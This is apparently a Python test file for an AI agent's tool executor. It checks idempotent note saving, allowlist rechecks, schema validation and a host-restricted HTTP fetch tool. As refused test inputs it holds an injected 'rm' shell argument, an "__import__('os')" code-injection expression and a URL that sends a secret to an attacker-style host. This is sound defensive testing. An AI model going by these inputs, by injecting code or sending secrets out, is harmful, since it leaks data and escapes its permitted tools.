"""The tool executor: a second allowlist check, argument validation, and side effects that run once."""

from __future__ import annotations

import json
from pathlib import Path

from redis.asyncio import Redis

from memory.keys import RedisKeys
from schemas.events import ToolCallCompleted, ToolCallRequested
from services.agents.logic import validate_call
from services.runtime.catalogue import AgentCatalogue
from services.runtime.idempotency import SideEffectGuard
from services.runtime.llm import ModelToolCall
from services.tools import logic, registry


def deps(redis: Redis, keys: RedisKeys, sandbox: Path, http_hosts: frozenset[str] = frozenset()) -> logic.ToolsDeps:
    return logic.ToolsDeps(
        tools={
            "calculator": registry.calculator,
            "save_note": registry.save_note(sandbox),
            "http_get": registry.http_get(True, http_hosts, 10_000, 2.0),
        },
        catalogue=AgentCatalogue.load(),
        guard=SideEffectGuard(redis, keys),
        timeout_s=2.0,
    )


def request(tool: str, arguments: dict[str, object], kind: str = "writer", step: str = "g1.w1:0") -> ToolCallRequested:
    return ToolCallRequested(
        tenant="acme", goal_id="g1", task_id="g1.w1", call_id=f"{step}:0", step_id=step, tool=tool,
        arguments=arguments, agent_kind=kind, reply_to="unit.agent.writer",
    )


def result(outputs: list) -> ToolCallCompleted:  # type: ignore[type-arg]
    [out] = outputs
    assert isinstance(out.event, ToolCallCompleted)
    return out.event


def notes(sandbox: Path) -> list[dict[str, object]]:
    path = sandbox / "acme" / "notes.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


async def test_a_duplicate_side_effect_request_returns_the_stored_result_and_writes_once(
    redis: Redis, keys: RedisKeys, tmp_path: Path
) -> None:
    d = deps(redis, keys, tmp_path)
    first = result(await logic.execute(d, request("save_note", {"title": "t", "body": "b"})))
    second = result(await logic.execute(d, request("save_note", {"title": "t", "body": "b"})))
    assert first.ok and second.ok
    assert (first.replayed, second.replayed) == (False, True)
    assert second.output == first.output
    assert len(notes(tmp_path)) == 1


async def test_the_same_note_at_another_step_is_a_new_side_effect(redis: Redis, keys: RedisKeys, tmp_path: Path) -> None:
    d = deps(redis, keys, tmp_path)
    await logic.execute(d, request("save_note", {"title": "t", "body": "b"}, step="g1.w1:0"))
    await logic.execute(d, request("save_note", {"title": "t", "body": "b"}, step="g1.w1:1"))
    assert len(notes(tmp_path)) == 2


async def test_the_executor_rechecks_the_allowlist(redis: Redis, keys: RedisKeys, tmp_path: Path) -> None:
    out = result(await logic.execute(deps(redis, keys, tmp_path), request("save_note", {"title": "t", "body": "b"}, kind="researcher")))
    assert not out.ok and "not allowed" in (out.error or "")
    assert notes(tmp_path) == []


async def test_invalid_arguments_are_refused_with_the_reason(redis: Redis, keys: RedisKeys, tmp_path: Path) -> None:
    out = result(await logic.execute(deps(redis, keys, tmp_path), request("calculator", {"expression": "1+1", "shell": "rm"}, kind="researcher")))
    assert not out.ok and "Extra inputs are not permitted" in (out.error or "")


async def test_calculator_errors_come_back_to_the_agent(redis: Redis, keys: RedisKeys, tmp_path: Path) -> None:
    out = result(await logic.execute(deps(redis, keys, tmp_path), request("calculator", {"expression": "__import__('os')"}, kind="researcher")))
    assert not out.ok and "only numbers" in (out.error or "")


async def test_http_get_refuses_hosts_off_the_allowlist(redis: Redis, keys: RedisKeys, tmp_path: Path) -> None:
    catalogue = AgentCatalogue.load()
    d = deps(redis, keys, tmp_path, http_hosts=frozenset({"docs.example.org"}))
    d = logic.ToolsDeps(d.tools, AgentCatalogue({**catalogue.kinds, "browser": catalogue.kinds["researcher"].model_copy(update={"name": "browser", "tools": ("http_get",)})}), d.guard, d.timeout_s)
    out = result(await logic.execute(d, request("http_get", {"url": "http://attacker.test/?k=secret"}, kind="browser")))
    assert not out.ok and "not on the allowlist" in (out.error or "")


def test_http_get_is_off_by_default() -> None:
    from services.tools.settings import ToolsSettings

    assert ToolsSettings().http_enabled is False


def test_the_agent_validates_arguments_against_the_tool_schema() -> None:
    researcher = AgentCatalogue.load().get("researcher")
    ok = validate_call(researcher, ModelToolCall(0, "calculator", '{"expression": "2+2"}'))
    assert not isinstance(ok, str) and ok.arguments == {"expression": "2+2"}
    assert "invalid arguments" in str(validate_call(researcher, ModelToolCall(0, "calculator", '{"expression": 5}')))
    assert "invalid arguments" in str(validate_call(researcher, ModelToolCall(0, "calculator", "not json")))
    assert "not allowed" in str(validate_call(researcher, ModelToolCall(0, "http_get", '{"url": "http://x"}')))


async def test_http_get_fetches_from_an_allowlisted_host_and_stops_at_the_size_limit() -> None:
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from schemas.tools import HttpGetArgs

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
            body = b"x" * 50_000
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            return None

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        fetch = registry.http_get(True, frozenset({"127.0.0.1"}), 1_000, 5.0)
        ctx = registry.CallContext("acme", "g1", "g1.r1", "key")
        output = await fetch(HttpGetArgs(url=f"http://127.0.0.1:{server.server_port}/page"), ctx)
        assert output.startswith("HTTP 200\n")
        assert output.removeprefix("HTTP 200\n") == "x" * 1_000
        off = registry.http_get(False, frozenset({"127.0.0.1"}), 1_000, 5.0)
        try:
            await off(HttpGetArgs(url=f"http://127.0.0.1:{server.server_port}/page"), ctx)
        except registry.ToolFailed as exc:
            assert "disabled" in str(exc)
        else:
            raise AssertionError("http_get ran while disabled")
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
